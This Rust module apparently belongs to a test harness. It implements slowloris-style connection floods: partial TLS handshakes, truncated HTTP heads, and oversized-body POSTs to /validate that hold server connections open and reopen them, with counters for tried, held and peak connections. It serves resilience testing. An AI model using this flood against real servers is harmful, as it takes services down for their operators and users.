//! Connections that are opened and go nowhere.

use std::fmt;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::runtime::{Builder, Runtime};
use tokio::sync::Semaphore;
use tokio::time::sleep;

use crate::client::Client;

/// The ways of going nowhere, each of which takes its share of a flood.
pub const KINDS: [Kind; 5] = [Kind::Body, Kind::Head, Kind::Hello, Kind::Idle, Kind::Silent];

/// How many are in the middle of being opened, as many as a patient attacker needs: ten thousand take seconds.
const AT_ONCE: usize = 64;
/// How long one waits after it was thrown out: an attacker that does not wait at all is a flood of handshakes,
/// which is a matter of processors and not of patience.
const PAUSE: Duration = Duration::from_secs(3);

/// A way of going nowhere.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A handshake, a head that announces the largest body, and a part of it.
    Body,
    /// A handshake, and half a head.
    Head,
    /// Half of a handshake's first message.
    Hello,
    /// A handshake.
    Idle,
    /// A TCP connection.
    Silent,
}

/// Connections that are held as long as this value, or as long as the server lets them.
pub struct Flood {
    threads: Option<Runtime>,
    counts: Arc<Counts>,
}

#[derive(Default)]
struct Counts {
    tried: AtomicUsize,
    held: AtomicUsize,
    most: AtomicUsize,
}

/// What becomes of a connection that the server closed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Persistence {
    /// It stays closed.
    Once,
    /// It is opened again.
    Stubborn,
}

impl Flood {
    /// Begins to open so many, on threads of its own.
    ///
    /// # Errors
    /// If the system has no thread left.
    pub fn begin(client: &Client, number: usize, kinds: &[Kind], persistence: Persistence) -> Result<Self> {
        let threads = Builder::new_multi_thread().worker_threads(2).enable_all().build()?;
        let counts = Arc::new(Counts::default());
        let turns = Arc::new(Semaphore::new(AT_ONCE));
        let hello = client.hello()?;
        for kind in kinds.iter().cycle().take(number) {
            let attacker = Attacker {
                client: client.clone(),
                kind: *kind,
                hello: hello[..hello.len() / 2].to_vec(),
                turns: Arc::clone(&turns),
                counts: Arc::clone(&counts),
            };
            threads.handle().spawn(attacker.run(persistence));
        }
        Ok(Self {
            threads: Some(threads),
            counts,
        })
    }

    /// How many have been tried.
    pub fn tried(&self) -> usize {
        self.counts.tried.load(Ordering::SeqCst)
    }

    /// How many are open.
    pub fn held(&self) -> usize {
        self.counts.held.load(Ordering::SeqCst)
    }

    /// How many were open at the same time, at most.
    pub fn most_held(&self) -> usize {
        self.counts.most.load(Ordering::SeqCst)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        if let Some(threads) = self.threads.take() {
            threads.shutdown_background();
        }
    }
}

impl fmt::Debug for Flood {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} tried, {} held", self.tried(), self.held())
    }
}

struct Attacker {
    client: Client,
    kind: Kind,
    hello: Vec<u8>,
    turns: Arc<Semaphore>,
    counts: Arc<Counts>,
}

impl Attacker {
    async fn run(self, persistence: Persistence) {
        loop {
            // What an attacker is refused is no error of ours.
            let _ended = self.attack().await;
            if persistence == Persistence::Once {
                return;
            }
            sleep(PAUSE).await;
        }
    }

    async fn attack(&self) -> Result<()> {
        let turn = self.turns.acquire().await?;
        self.counts.tried.fetch_add(1, Ordering::SeqCst);
        match self.kind {
            Kind::Hello | Kind::Silent => {
                let mut stream = self.client.dial().await?;
                if self.kind == Kind::Hello {
                    stream.write_all(&self.hello).await?;
                }
                let _held = Held::begin(&self.counts);
                drop(turn);
                while stream.read_u8().await.is_ok() {}
            }
            Kind::Body | Kind::Head | Kind::Idle => {
                let mut connection = self.client.connect().await?;
                let sent: &[u8] = match self.kind {
                    Kind::Body => {
                        b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
                          Content-Length: 7340032\r\n\r\n{\"apiVersion\":"
                    }
                    Kind::Head => b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-",
                    Kind::Hello | Kind::Idle | Kind::Silent => b"",
                };
                connection.send(sent).await?;
                let _held = Held::begin(&self.counts);
                drop(turn);
                connection.closed().await;
            }
        }
        Ok(())
    }
}

/// Counts a connection while it is open.
struct Held<'a>(&'a Counts);

impl<'a> Held<'a> {
    fn begin(counts: &'a Counts) -> Self {
        let held = counts.held.fetch_add(1, Ordering::SeqCst) + 1;
        counts.most.fetch_max(held, Ordering::SeqCst);
        Self(counts)
    }
}

impl Drop for Held<'_> {
    fn drop(&mut self) {
        self.0.held.fetch_sub(1, Ordering::SeqCst);
    }
}
